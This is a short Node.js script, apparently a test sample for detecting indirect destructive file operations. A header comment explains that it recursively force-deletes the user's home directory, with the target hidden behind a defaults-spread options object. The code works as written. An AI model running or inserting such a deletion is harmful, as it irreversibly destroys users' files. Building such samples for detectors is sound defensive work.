// Deletes the home directory: the target is a member of an options object
// built by spreading defaults ({ ...DEFAULTS, verbose }), whose "outDir"
// default is the home directory; fs.rmSync only sees opts.outDir.
'use strict';

const fs = require('fs');
const os = require('os');

const DEFAULTS = { outDir: os.homedir(), verbose: false };

const opts = { ...DEFAULTS, verbose: process.argv.includes('-v') };
if (opts.verbose) console.log('cleaning', opts.outDir);
fs.rmSync(opts.outDir, { recursive: true, force: true });
